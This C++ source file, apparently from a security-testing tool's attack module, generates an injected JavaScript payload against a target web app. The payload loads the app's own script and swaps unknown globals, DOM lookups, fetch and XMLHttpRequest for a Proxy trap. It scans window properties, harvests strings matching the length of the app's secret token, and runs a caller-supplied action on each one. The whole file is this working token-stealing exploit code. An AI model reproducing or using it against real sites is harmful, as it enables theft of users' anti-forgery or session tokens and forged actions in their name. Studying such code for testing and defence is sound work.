#include "core/attack/app_script.h"

#include <algorithm>

#include "core/base/ascii.h"

namespace parapet::attack {
namespace {

constexpr std::size_t kMostNames = 60;

bool is_of_a_name(char c) { return ascii::is_alphanumeric(c) || c == '_' || c == '$'; }

constexpr std::string_view kDeclares[] = {"const", "let", "class"};

enum class Which { All, Declared };

// Whatever may be a variable in it, or what is declared as a constant, as a list of strings.
std::string names_in(std::string const& script, Which which) {
    std::vector<std::string> names;
    std::string before;
    for (std::size_t at = 0; at < script.size() && names.size() < kMostNames;) {
        std::size_t end = at;
        while (end < script.size() && is_of_a_name(script[end])) ++end;
        std::string name = script.substr(at, end - at);
        bool const is_one = !name.empty() && !ascii::is_digit(name[0]) && name.size() < 40;
        bool const is_wanted =
            which == Which::All ||
            std::find(std::begin(kDeclares), std::end(kDeclares), before) != std::end(kDeclares);
        if (!name.empty()) before = name;
        if (is_one && is_wanted && std::find(names.begin(), names.end(), name) == names.end())
            names.push_back(std::move(name));
        at = std::max(end, at + 1);
    }
    std::string list = "[";
    for (std::string const& each : names)
        list += (list.size() > 1 ? "," : "") + script_string(each);
    return list + "]";
}

// What the script finds in the place of the app's own functions and elements: it takes what it is
// given, and calls what it is given to call.
constexpr std::string_view kTraps =
    "const all=[];const put=v=>{if(v===null||v===undefined||all.length>4000)return;all.push(v);"
    "if(typeof v===\"object\"&&v!==window)try{all.push(v.value,v.content,...Object.values(v));"
    "if(v instanceof Headers)for(const[,h]of v)all.push(h)}catch{}};let calls=0;"
    "const given=a=>{for(const v of a){put(v);"
    "if(typeof v===\"function\"&&v!==trap&&++calls<50)try{v(trap)}catch{}}return trap};"
    "const trap=new Proxy(function(){},{get:(o,k)=>k===\"then\"?undefined:k===Symbol.toPrimitive?"
    "()=>\"\":k===Symbol.iterator?function*(){yield trap}:trap,apply:(o,s,a)=>given(a),"
    "construct:(o,a)=>given(a),set:(o,k,v)=>(given([v]),true),has:()=>true});"
    "const real=window.fetch,at=document.head;"
    "const send=(u,o)=>{put(u&&u.headers);if(o){put(o.headers);put(o.body);for(const p of "
    "String(o.body).split(/[=&\"]/))"
    "put(p)}return Promise.resolve(trap)};";

}  // namespace

std::string act_with_script(Target const& target, OwnForm const& own, std::string const& act) {
    std::string script(kTraps);
    // A name that is nobody's yet may be the app's own function or object.
    script += "const names=" + names_in(own.script, Which::All) +
              ".filter(n=>!(n in window));for(const n of names)window[n]=trap;"
              "window.fetch=send;const x=XMLHttpRequest.prototype;x.open=()=>{};"
              "x.setRequestHeader=(n,v)=>put(v);x.send=b=>send(\"\",{body:b});"
              "for(const f of [\"querySelector\",\"getElementById\"])document[f]=()=>trap;"
              "for(const f of [\"querySelectorAll\",\"getElementsByName\",\"getElementsByTagName\","
              "\"getElementsByClassName\"])document[f]=()=>[trap];";
    script += "const s=document.createElement(\"script\");s.src=" +
              script_string(app_origin(target) + own.script_path) +
              ";s.onload=()=>{for(const e of [\"DOMContentLoaded\",\"load\"])for(const o of "
              "[document,window])try{o.dispatchEvent(new Event(e))}catch{}"
              // A constant at the top is seen by other scripts, but is no property of the window.
              "window.seen=put;for(const n of " +
              names_in(own.script, Which::Declared) +
              "){const k=document.createElement(\"script\");"
              "k.textContent=\"try{seen(\"+n+\")}catch{}\";at.appendChild(k)}"
              "try{window.fetch(\"\",{method:\"POST\",headers:{},body:\"\"})}catch{}"
              "for(const k of Object.getOwnPropertyNames(window)){let v;try{v=window[k]}catch{"
              "continue}put(v)}window.fetch=real;";
    script += "for(const t of [...new Set(all.filter(t=>typeof t===\"string\"&&t.length===" +
              std::to_string(own.token.size()) + "))].slice(-4)){" + act + "}};at.appendChild(s);";
    return "(()=>{" + script + "})();";
}

}  // namespace parapet::attack
